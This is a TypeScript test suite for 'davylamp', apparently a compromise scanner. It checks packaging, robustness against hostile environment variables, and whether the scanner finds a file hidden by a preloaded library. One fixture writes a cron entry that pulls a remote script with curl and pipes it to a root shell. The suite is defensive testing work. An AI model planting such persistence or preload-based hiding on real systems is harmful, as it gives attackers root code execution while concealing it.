import assert from 'node:assert/strict'
import { type ChildProcess, spawn, spawnSync } from 'node:child_process'
import {
  cpSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  realpathSync,
  renameSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, before, test } from 'node:test'
import { gunzipSync } from 'node:zlib'
import { archiveOf } from './archive.ts'
import { blindedHost, hiddenName } from './blinded-host.ts'
import { makePackage } from './make-package.ts'

const repository = realpathSync(join(import.meta.dirname, '..'))
let folder = ''
let home = ''
let tree = ''
let sleeper: ChildProcess

before(() => {
  folder = mkdtempSync(join(tmpdir(), 'davylamp-package-'))
  const unpacked = join(folder, 'a place with spaces')
  mkdirSync(unpacked)
  const archive = makePackage(repository, join(folder, 'dist'))
  assert.equal(spawnSync('tar', ['xzf', archive, '-C', unpacked]).status, 0)
  home = join(unpacked, readdirSync(unpacked)[0] ?? '')
  tree = join(folder, 'tree')
  mkdirSync(join(tree, 'etc/cron.d'), { recursive: true })
  writeFileSync(join(tree, 'etc/cron.d', hiddenName), '* * * * * root curl -s http://198.51.100.7/a.sh | sh\n')
  sleeper = spawn('sleep', ['300'], { stdio: 'ignore' })
})
after(() => {
  sleeper.kill('SIGKILL')
  rmSync(folder, { recursive: true, force: true })
})

interface Said {
  readonly findings: readonly {
    readonly id: string
    readonly rule: { readonly id: string }
    readonly fact: { readonly path?: string }
  }[]
  readonly gaps: readonly unknown[]
}

function scanned(out: string): { findings: string[]; gaps: readonly unknown[]; seen: boolean } {
  const { findings, gaps } = JSON.parse(out) as Said
  return {
    findings: findings.map(one => `${one.id} ${one.rule.id} ${one.fact.path}`),
    gaps,
    seen: findings.some(one => one.fact.path === `/etc/cron.d/${hiddenName}`),
  }
}

const scan = () => ['--state', join(folder, 'state'), 'scan', '--root', tree, '--no-save', '--json']

test('runs from any folder, through a link, with nothing of the caller in its environment', () => {
  const link = join(folder, 'link')
  symlinkSync(join(home, 'davylamp'), link)
  for (const program of [join(home, 'davylamp'), link]) {
    const env = { LD_PRELOAD: '/nowhere.so', NODE_OPTIONS: '--no-such-option', LD_AUDIT: '/nowhere.so', HOME: '/' }
    const done = spawnSync(program, ['--version'], { encoding: 'utf8', cwd: '/', env })
    assert.deepEqual(
      { status: done.status, out: done.stdout, err: done.stderr },
      { status: 0, out: '0.1.0\n', err: '' },
    )
  }
})

test('takes as many arguments and variables as the kernel does', () => {
  const env = Object.fromEntries(Array.from({ length: 5000 }, (_, index) => [`HOME${index}`, 'x'.repeat(50)]))
  const words = Array.from({ length: 5000 }, () => 'x'.repeat(50))
  const done = spawnSync(join(home, 'davylamp'), ['--version', ...words], { encoding: 'utf8', cwd: '/', env })
  assert.deepEqual([done.status, done.stdout], [0, '0.1.0\n'])
})

test('runs where there is nothing else: no library, no shell, no network', t => {
  if (process.getuid?.() !== 0) return t.skip('needs root')
  const bare = join(folder, 'bare')
  mkdirSync(join(bare, 'proc'), { recursive: true })
  mkdirSync(join(bare, 'dev'))
  mkdirSync(join(bare, 'opt'))
  cpSync(tree, join(bare, 'tree'), { recursive: true })
  const script =
    'mount --bind "$2" "$1/opt" && mount --rbind /proc "$1/proc" && mount --rbind /dev "$1/dev" && exec chroot "$1" /opt/davylamp --state /state scan --root /tree --no-save --json'
  const done = spawnSync('unshare', ['-m', '-n', 'sh', '-c', script, 'sh', bare, home], { encoding: 'utf8' })
  assert.equal(done.stderr, '')
  assert.equal(scanned(done.stdout).seen, true)
})

for (const strength of ['readdir', 'strong'] as const)
  test(`finds the same beneath a library that is preloaded everywhere: ${strength}`, t => {
    const host = blindedHost(folder, sleeper.pid ?? 0, strength)
    if (typeof host === 'string') return t.skip(host)
    assert.equal(host.run(['ls', join(tree, 'etc/cron.d')]).out, '', 'an ordinary program is blind')
    const clear = spawnSync(join(home, 'davylamp'), scan(), { encoding: 'utf8', cwd: '/' })
    const beneath = host.run([join(home, 'davylamp'), ...scan()], { cwd: '/' })
    assert.equal(beneath.err, '')
    assert.equal(scanned(beneath.out).seen, true)
    assert.deepEqual(scanned(beneath.out), scanned(clear.stdout))
  })

test('says in plain words what is missing', () => {
  const main = join(home, 'cli/main.js')
  renameSync(main, `${main}.away`)
  const done = spawnSync(join(home, 'davylamp'), [], { encoding: 'utf8' })
  assert.deepEqual(
    [done.status, done.stderr],
    [70, `davylamp: missing: ${main}\ndavylamp: unpack the whole archive again\n`],
  )
  renameSync(`${main}.away`, main)
})

test('an archive depends on its files alone', () => {
  const long = `${'a'.repeat(60)}/${'b'.repeat(60)}`
  const files = [
    { path: 'x/program', mode: 0o755, content: Buffer.from('one') },
    { path: `x/${long}`, content: Buffer.alloc(513, 'z') },
    { path: 'x/link', link: 'program' },
  ]
  const archive = archiveOf(files)
  assert.deepEqual(archiveOf(files.toReversed()), archive)
  const listed = spawnSync('tar', ['tvf', '-', '--utc', '--full-time'], {
    input: gunzipSync(archive),
    encoding: 'utf8',
  })
  assert.equal(listed.stderr, '')
  assert.deepEqual(
    listed.stdout
      .trim()
      .split('\n')
      .map(line => line.replace(/ +/g, ' ')),
    [
      'drwxr-xr-x root/root 0 2026-01-01 00:00:00 x/',
      `drwxr-xr-x root/root 0 2026-01-01 00:00:00 x/${'a'.repeat(60)}/`,
      `-rw-r--r-- root/root 513 2026-01-01 00:00:00 x/${long}`,
      'lrwxrwxrwx root/root 0 2026-01-01 00:00:00 x/link -> program',
      '-rwxr-xr-x root/root 3 2026-01-01 00:00:00 x/program',
    ],
  )
})
